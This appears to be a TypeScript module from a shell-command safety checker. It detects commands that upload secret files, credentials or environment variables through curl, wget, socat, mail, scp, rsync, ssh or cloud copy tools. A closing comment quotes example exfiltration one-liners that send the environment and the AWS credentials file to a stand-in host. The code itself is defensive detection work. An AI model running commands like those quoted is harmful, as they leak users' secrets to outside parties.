// Exfiltration: secret files, credentials and the environment sent by curl, nc, mail, scp, rsync or cloud copies.
import type { Invocation, Word } from "../../../types.js";
import { parseArgs } from "../../flags.js";
import { COPIERS, CURL_VALUE, substitutionsIn, WGET_VALUE, type Ctx } from "./common.js";
import { leakFrom, leakOnStdin, secretOf, type Leak } from "./leaks.js";

function uploads(inv: Invocation): { files: { path?: string; word: Word }[]; stdin: boolean } {
  const p = inv.program!;
  const args = inv.argv.slice(1);
  const files: { path?: string; word: Word }[] = [];
  const file = (path: string | undefined, word: Word) => files.push({ ...(path !== undefined ? { path } : {}), word });
  if (p === "curl" || p === "curlie") {
    const a = parseArgs(args, { value: CURL_VALUE });
    for (const o of a.options) {
      const val = o.value;
      const next = o.dynamicValue ? args[args.indexOf(o.word) + 1] : undefined;
      const raw = next?.raw.replace(/^["']/, "") ?? "";
      switch (o.name) {
        case "d": case "data": case "data-ascii": case "data-binary": case "json": case "H": case "header":
          if (val?.startsWith("@")) file(val.slice(1), o.word);
          else if (next && raw.startsWith("@")) file(undefined, next);
          break;
        case "data-urlencode": {
          const m = val !== undefined ? /^([^=@]*)@(.*)$/.exec(val) : undefined;
          if (m) file(m[2], o.word);
          else if (next && /^[^=@]*@/.test(raw)) file(undefined, next);
          break;
        }
        case "F": case "form": {
          const m = val !== undefined ? /^[^=]*=[@<]([^;]*)/.exec(val) : undefined;
          if (m) file(m[1], o.word);
          else if (next && /=[@<]/.test(raw)) file(undefined, next);
          break;
        }
        case "T": case "upload-file":
          file(val === "." ? "-" : val, next ?? o.word);
          break;
        default:
          break;
      }
    }
    return { files, stdin: false };
  }
  if (p === "wget" || p === "wget2") {
    const a = parseArgs(args, { value: WGET_VALUE });
    for (const o of a.options) if (o.name === "post-file" || o.name === "body-file") file(o.value, o.word);
    return { files, stdin: false };
  }
  if (p === "http" || p === "https" || p === "xh" || p === "xhs") {
    const a = parseArgs(args, { value: ["a", "auth", "A", "auth-type", "o", "output", "session", "session-read-only", "cert", "cert-key", "verify", "proxy", "timeout", "pretty", "s", "style", "p", "print", "format-options"] });
    // httpie items: `field=@file`, `field:=@file`, `field@file` (upload), `@file` (raw body).
    for (const w of a.positionals) {
      if (w.value === undefined || w.value.includes("://")) continue;
      const m = /^[^=:@/]*(?:=@|:=@|@)(.+)$/.exec(w.value);
      if (m) file(m[1], w);
    }
    return { files, stdin: !a.has("I", "ignore-stdin") };
  }
  if (p === "socat") {
    for (const w of args) {
      const val = w.value;
      if (val === undefined || val.startsWith("-") && val !== "-") continue;
      if (/^(-|stdin|stdio)$/i.test(val)) file("-", w);
      const m = /^(?:file|open|gopen|create):([^,]+)/i.exec(val) ?? /^(\/[^,]*)/.exec(val);
      if (m) file(m[1], w);
    }
    return { files, stdin: false };
  }
  if (p === "mail" || p === "mailx" || p === "mutt") {
    const a = parseArgs(args, { value: ["a", "A", "s", "c", "b", "r", "S", "F", "i", "q"] });
    for (const o of a.options) if (o.name === "a" || o.name === "A") file(o.value, o.word);
    return { files, stdin: true };
  }
  if (p === "openssl") return { files, stdin: args[0]?.value === "s_client" };
  return { files, stdin: true };
}

/** Local sources of a copy to a remote host or bucket: scp, rsync, cloud copies, ssh and sftp fed on stdin. */
function copySources(inv: Invocation): { files: { path?: string; word: Word }[]; stdin: boolean; dest?: string } {
  const p = inv.program!;
  const args = inv.argv.slice(1);
  const remote = (s: string | undefined) => s !== undefined && (/^[a-z][a-z0-9+.-]*:\/\//i.test(s) || (/^(?:[^@/\s]+@)?[A-Za-z0-9._\[\]-]+:/.test(s) && !/^[A-Za-z]:[\\/]/.test(s)));
  const local = (ws: Word[], dest: Word | undefined) => {
    if (!dest || !remote(dest.value)) return { files: [], stdin: false };
    const files = ws.filter((w) => !remote(w.value)).map((w) => ({ ...(w.value !== undefined ? { path: w.value } : {}), word: w }));
    return { files, stdin: false, ...(dest.value !== undefined ? { dest: dest.value } : {}) };
  };
  if (p === "scp") {
    const a = parseArgs(args, { value: ["c", "D", "F", "i", "J", "l", "o", "P", "S", "X"] });
    const pos = [...a.positionals, ...a.rest];
    return local(pos.slice(0, -1), pos[pos.length - 1]);
  }
  if (p === "rsync") {
    const a = parseArgs(args, {
      value: ["e", "rsh", "f", "filter", "T", "temp-dir", "B", "block-size", "M", "remote-option", "@", "modify-window", "exclude", "include", "exclude-from", "include-from", "files-from", "rsync-path", "backup-dir", "suffix", "chmod", "chown", "password-file", "log-file", "partial-dir", "bwlimit", "timeout", "port", "compare-dest", "copy-dest", "link-dest", "max-size", "min-size", "out-format", "info", "debug", "iconv", "usermap", "groupmap", "sockopts", "address", "contimeout", "max-delete"],
    });
    const pos = [...a.positionals, ...a.rest];
    return local(pos.slice(0, -1), pos[pos.length - 1]);
  }
  if (p === "ssh") {
    const a = parseArgs(args, { value: ["B", "b", "c", "D", "E", "e", "F", "I", "i", "J", "L", "l", "m", "O", "o", "p", "Q", "R", "S", "W", "w"], stopAtPositional: true });
    return { files: [], stdin: !a.has("n", "N", "f"), ...(a.positionals[0]?.value ? { dest: a.positionals[0].value } : {}) };
  }
  if (p === "sftp") {
    const host = args.find((w) => w.value !== undefined && !w.value.startsWith("-"))?.value;
    const st = inv.stdin;
    const files: { path: string; word: Word }[] = [];
    if (st?.kind === "static") for (const m of st.text.matchAll(/^\s*(?:put|reput|mput)\s+(?:-\w+\s+)*(\S+)/gm)) files.push({ path: m[1]!, word: inv.argv[0]! });
    return { files, stdin: false, ...(host ? { dest: host } : {}) };
  }
  // Cloud object copies: `aws s3 cp SRC... s3://b`, `gsutil cp`, `gcloud storage cp`, `rclone copy`, `az storage blob upload`.
  const pos = args.filter((w) => w.value === undefined || !w.value.startsWith("-"));
  const words = pos.map((w) => w.value);
  const after = (...verbs: string[]) => {
    const i = words.findIndex((x) => x !== undefined && verbs.includes(x));
    return i < 0 ? undefined : pos.slice(i + 1);
  };
  const bucket = (re: RegExp, rest: Word[] | undefined) => {
    if (!rest || rest.length < 2) return { files: [], stdin: false };
    const dest = rest[rest.length - 1]!;
    if (!dest.value || !re.test(dest.value)) return { files: [], stdin: false };
    const files = rest.slice(0, -1).filter((w) => !re.test(w.value ?? "")).map((w) => ({ ...(w.value !== undefined ? { path: w.value } : {}), word: w }));
    return { files, stdin: false, dest: dest.value };
  };
  if (p === "aws" && words.includes("s3")) return bucket(/^s3:\/\//, after("cp", "mv", "sync"));
  if (p === "gsutil") return bucket(/^gs:\/\//, after("cp", "mv", "rsync"));
  if (p === "gcloud" && words.includes("storage")) return bucket(/^gs:\/\//, after("cp", "mv", "rsync"));
  if (p === "rclone") {
    const rest = after("copy", "copyto", "sync", "move", "moveto", "rcat");
    if (words.includes("rcat")) return { files: [], stdin: true, ...(rest?.[0]?.value ? { dest: rest[0].value } : {}) };
    return bucket(/^[A-Za-z0-9_-]+:/, rest);
  }
  if (p === "az" && words.includes("upload")) {
    const a = parseArgs(args, { value: ["f", "file", "s", "source", "c", "container-name", "n", "name", "account-name", "d", "destination"] });
    return { files: a.options.filter((o) => ["f", "file", "s", "source"].includes(o.name)).map((o) => ({ ...(o.value !== undefined ? { path: o.value } : {}), word: o.word })), stdin: false, dest: "Azure storage" };
  }
  return { files: [], stdin: false };
}

function destOf(inv: Invocation): string {
  const url = inv.argv.slice(1).find((w) => w.value !== undefined && /^[a-z][a-z0-9+.-]*:\/\//i.test(w.value));
  if (url) return url.value!;
  const host = inv.argv.slice(1).find((w) => w.value !== undefined && !w.value.startsWith("-") && !w.value.startsWith("@"));
  return host?.value ?? inv.program!;
}

export function checkExfiltration(inv: Invocation, ctx: Ctx): void {
  const p = inv.program!;
  const copy = COPIERS.has(p);
  const up: { files: { path?: string; word: Word }[]; stdin: boolean; dest?: string } = copy ? copySources(inv) : uploads(inv);
  const dest = up.dest ?? destOf(inv);
  const report = (leak: Leak, word: Word) => {
    if (leak.env) return ctx.report("exfiltrate-env", { word, data: { dest } });
    // A file that may hold no secret (a certificate, a folder around the credentials) asks rather than blocks.
    ctx.report(copy ? "copy-secret" : "exfiltrate-secret", { word, data: { what: leak.secret!.what, dest }, ...(leak.secret!.maybe && !copy ? { risk: "high" as const } : {}) });
  };
  let stdin = up.stdin;
  for (const f of up.files) {
    if (f.path === "-" || f.path === "/dev/stdin") {
      stdin = true;
      continue;
    }
    if (f.path === undefined) {
      // An upload whose file is computed: it may be anything, but uploading build artefacts this way is routine.
      const inner = substitutionsIn([f.word], ctx).map((s) => leakFrom(s, ctx)).find(Boolean);
      if (inner) report(inner, f.word);
      else ctx.report("dynamic-upload", { word: f.word, data: { word: f.word.raw, dest } });
      continue;
    }
    const s = secretOf(f.path, inv, ctx);
    if (s) report({ secret: s }, f.word);
  }
  if (stdin) {
    const l = leakOnStdin(inv, ctx);
    if (l) report(l, inv.argv[0]!);
    const redirected = inv.redirects.filter((r) => r.target && (r.op === "<<<" || r.op === "<")).map((r) => r.target!);
    for (const s of substitutionsIn(redirected, ctx)) {
      const leak = leakFrom(s, ctx);
      if (leak) report(leak, inv.argv[0]!);
    }
  }
  // Secrets spliced into arguments: `curl -d "$(env)" ..`, `curl "https://x/?k=$(cat ~/.aws/credentials)"`.
  if (!copy || p === "ssh") {
    for (const w of inv.argv.slice(1)) {
      if (w.value !== undefined) continue;
      for (const s of substitutionsIn([w], ctx)) {
        const leak = leakFrom(s, ctx);
        if (leak) {
          report(leak, w);
          break;
        }
      }
    }
  }
}
